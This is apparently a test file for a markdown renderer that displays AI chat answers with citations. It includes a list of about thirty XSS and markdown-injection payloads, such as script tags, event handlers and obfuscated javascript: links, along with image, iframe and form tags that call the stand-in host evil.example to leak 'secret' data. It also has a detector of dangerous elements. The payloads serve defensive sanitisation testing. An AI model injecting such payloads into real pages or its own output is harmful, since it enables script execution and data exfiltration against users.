import { FluentProvider, webLightTheme } from '@fluentui/react-components';
import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import type { Citation } from '#contract/runs/answerEvents.ts';
import { sampleCitation } from '#tab/testing/samples.ts';
import { CitationsProvider } from '#tab/features/chat/citations/CitationsContext.ts';
import { AnswerMarkdown } from './AnswerMarkdown.tsx';

const openLink = jest.fn();
const openInViewer = jest.fn();
jest.mock('#tab/shell/openLink.ts', () => ({ openLink: (address: string) => openLink(address) }));
jest.mock('#tab/features/workspace/viewer/viewer.actions.ts', () => ({
  openInViewer: (target: unknown) => openInViewer(target),
}));

function answer(text: string, streaming = false, links: Citation[] = []) {
  return (
    <FluentProvider theme={webLightTheme}>
      <CitationsProvider value={links}>
        <AnswerMarkdown text={text} streaming={streaming} numbers={links.map((link) => link.number)} />
      </CitationsProvider>
    </FluentProvider>
  );
}

const payloads = [
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<img src="https://evil.example/pixel?q=secret">',
  '![secret](https://evil.example/pixel?q=secret)',
  '![secret][ref]\n\n[ref]: https://evil.example/pixel',
  '![](//evil.example/pixel)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)',
  '[a](javascript:window.hit=1)',
  '[a](JaVaScRiPt:window.hit=1)',
  '[a](java\tscript:window.hit=1)',
  '[a](&#106;avascript:window.hit=1)',
  '[a](vbscript:msgbox)',
  '[a](data:text/html,<script>window.hit=1</script>)',
  '<javascript:window.hit=1>',
  '[a]: javascript:window.hit=1\n\n[a]',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="window.hit=1"><use href="https://evil.example/x.svg#a"/></svg>',
  '<a href="javascript:window.hit=1" onclick="window.hit=1">x</a>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<details open ontoggle="window.hit=1">x</details>',
  '`<img src=x onerror=window.hit=1>` and <b onmouseover=window.hit=1>b</b>',
  '| a |\n| - |\n| <img src=https://evil.example/t> ![t](https://evil.example/t) |',
  '[![x](https://evil.example/in)](https://evil.example/out)',
  '[1]: javascript:window.hit=1 "t"\n\nSee [1].',
  '<x-cite data-number="1">1</x-cite><cite data-number="1" onclick="window.hit=1">1</cite>',
];

const loading =
  'img, script, iframe, svg[onload], video, audio, source, object, embed, link, style, form, base, meta, input[name]';

/** Elements and attributes that would load a resource, run a script or open an address with a forbidden protocol. */
function dangersIn(root: HTMLElement): string[] {
  const dangers = [...root.querySelectorAll(loading)].map((element) => element.outerHTML);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'src' || name === 'srcset' || name === 'action')
        dangers.push(`${name}=${value}`);
      if (name === 'href' && !/^(https?:|mailto:|#)/i.test(value)) dangers.push(`${name}=${value}`);
      if (name === 'style' && value.includes('url(')) dangers.push(`${name}=${value}`);
    }
  }
  return dangers;
}

describe('content that a document could inject', () => {
  /** @proves threat:markdown */
  it.each(payloads)('%s does nothing at any moment of streaming', (payload) => {
    const start = 'See [1].\n\n';
    const text = `${start}${payload}\n\nend`;
    const { container, rerender } = render(answer('', true));
    // From the first character of the payload to the first one after it.
    for (let { length } = start; length <= text.length - 2; length += 1) {
      rerender(answer(text.slice(0, length), true, [sampleCitation()]));
      expect(dangersIn(container)).toEqual([]);
    }
    rerender(answer(text, false, [sampleCitation()]));
    expect(dangersIn(container)).toEqual([]);
    expect(window).not.toHaveProperty('hit');
  });
});

describe('an answer with links and images', () => {
  /** @proves threat:remote-images */
  it('shows the host of a link and opens it outside the tab', () => {
    render(answer('Read [the policy](https://northwind.example/policy).'));
    const link = screen.getByRole('link', { name: 'the policy' });
    expect(link.parentElement).toHaveTextContent('Read the policy (northwind.example).');
    fireEvent.click(link);
    expect(openLink).toHaveBeenCalledWith('https://northwind.example/policy');
  });

  it('shows the host unless the link text is the host', () => {
    render(answer('[https://bank.example](https://evil.example) and https://northwind.example/a'));
    expect(screen.getByText('(evil.example)')).toBeInTheDocument();
    expect(screen.queryByText('(northwind.example)')).not.toBeInTheDocument();
  });

  /** @proves threat:remote-images */
  it('shows an image as a link with its host', () => {
    render(answer('![A chart](https://charts.example/c.png)'));
    const link = screen.getByRole('link', { name: 'A chart (image, not loaded)' });
    expect(link.parentElement).toHaveTextContent('A chart (image, not loaded) (charts.example)');
  });
});

describe('a citation', () => {
  const links = [sampleCitation(), sampleCitation({ number: 2, standing: 'changed' })];

  it('is a button if its number has a source', () => {
    render(answer('Economy [1], changed [2], made up [7], `code [1]`.', false, links));
    expect(screen.getAllByRole('button', { name: /^Source/ }).map((button) => button.textContent)).toEqual(['1', '2']);
    expect(screen.getByText(/made up \[7\]/)).toBeInTheDocument();
    expect(screen.getByText('code [1]')).toBeInTheDocument();
  });

  it('is not turned into a link by a link definition', () => {
    render(answer('See [1].\n\n[1]: https://evil.example', false, links));
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' })).toBeInTheDocument();
  });

  it('shows its card on focus and opens the file at the passage', async () => {
    render(answer('Economy [1].', false, links));
    fireEvent.focus(screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' }));
    const card = await screen.findByRole('group', { name: 'Source 1: Travel policy.pdf' });
    for (const text of [
      'Travel policy.pdf',
      'page 3 · Finance',
      /Economy class is booked/,
      'Last modified Oct 1, 2025',
    ])
      expect(within(card).getByText(text)).toBeInTheDocument();
    fireEvent.click(within(card).getByRole('button', { name: 'Open' }));
    expect(openInViewer).toHaveBeenCalledWith(expect.objectContaining({ fileName: 'Travel policy.pdf', page: 3 }));
    await waitFor(() => expect(card).not.toBeInTheDocument());
  });

  it('opens the file with a click and closes its card with Escape', async () => {
    render(answer('Economy [1].', false, links));
    const mark = screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' });
    fireEvent.focus(mark);
    const card = await screen.findByRole('group', { name: 'Source 1: Travel policy.pdf' });
    fireEvent.keyDown(within(card).getByRole('button', { name: 'Open' }), { key: 'Escape' });
    await waitFor(() => expect(card).not.toBeInTheDocument());
    fireEvent.click(mark);
    expect(openInViewer).toHaveBeenLastCalledWith(expect.objectContaining({ fileName: 'Travel policy.pdf', page: 3 }));
  });

  it('explains the standing of a source and does not open a denied one', async () => {
    render(answer('Secret [1].', false, [sampleCitation({ standing: 'denied', quote: '' })]));
    fireEvent.click(screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' }));
    expect(await screen.findByText("You can't open this file.")).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Open' })).not.toBeInTheDocument();
  });
});

describe('an answer', () => {
  it('renders the same during streaming as when complete', () => {
    const text =
      '## Costs\n\nA **bold** word.\n\n- one\n- two\n\n```ts\nconst x = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |';
    const plain = (root: HTMLElement) => root.innerHTML.replace(/>\s+</g, '><').replace(/_r_\w+_|\br\w*:\w+/g, '');
    const whole = render(answer(text));
    const arriving = render(answer('', true));
    for (let end = 5; end < text.length + 5; end += 5) arriving.rerender(answer(text.slice(0, end), true));
    expect(plain(arriving.container)).toBe(plain(whole.container));
  });

  it('never takes back shown text while it streams', () => {
    const text =
      '## Plan for **Oslo**\n\nIt takes **about five hours** and costs *at most* 140 euros, says `read_file()`.\n\n' +
      '- **Trains** are cheap, with ~~old~~ new prices\n- *Flights* need `approval`\n\n' +
      '| City | Price |\n| --- | ---: |\n| **Oslo** | 160 |\n\nDear <Name>, H<sub>2</sub>O and **重要。**です.\n\nThe end.';
    const arriving = render(answer('', true));
    let before = '';
    for (let end = 1; end <= text.length; end += 1) {
      arriving.rerender(answer(text.slice(0, end), true));
      const shown = (arriving.container.textContent ?? '').trimEnd();
      expect(shown.startsWith(before)).toBe(true);
      before = shown;
    }
  });

  it('resolves references across blocks when complete', () => {
    const text = 'See [the policy][p].\n\nMore.\n\n[p]: https://northwind.example/p';
    const { rerender } = render(answer(text, true));
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
    rerender(answer(text));
    expect(screen.getByRole('link', { name: 'the policy' })).toBeInTheDocument();
  });

  it('sets the direction of text and keeps code left to right', () => {
    render(answer('שלום עולם\n\n```\nx = 1\n```'));
    expect(screen.getByText('שלום עולם')).toHaveAttribute('dir', 'auto');
    expect(screen.getByText('x = 1').closest('[dir]')).toHaveAttribute('dir', 'ltr');
  });

  it('copies code and shows a check mark', async () => {
    const writeText = jest.fn(() => Promise.resolve());
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText } });
    render(answer('```ts\nconst x = 1;\n```'));
    fireEvent.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await screen.findByRole('button', { name: 'Copied!' })).toBeInTheDocument();
    expect(writeText).toHaveBeenCalledWith('const x = 1;');
  });
});

it('names the checkbox of a task after its own text, and shows it as done', () => {
  render(answer('- [x] Book the **lift**\n  - [ ] Ask the landlord\n- [ ] Order boxes\n\n1. Not a task'));
  const boxes = screen.getAllByRole('checkbox');
  expect(boxes.map((box) => box.getAttribute('aria-label'))).toEqual([
    'Book the lift',
    'Ask the landlord',
    'Order boxes',
  ]);
  expect(screen.getByRole('checkbox', { name: 'Book the lift' })).toBeChecked();
  expect(screen.getByRole('checkbox', { name: 'Order boxes' })).not.toBeChecked();
});

it('names tasks that blank lines separate', () => {
  render(answer('- [ ] Order boxes\n\n- [ ] Label them'));
  expect(screen.getByRole('checkbox', { name: 'Label them' })).toBeInTheDocument();
});
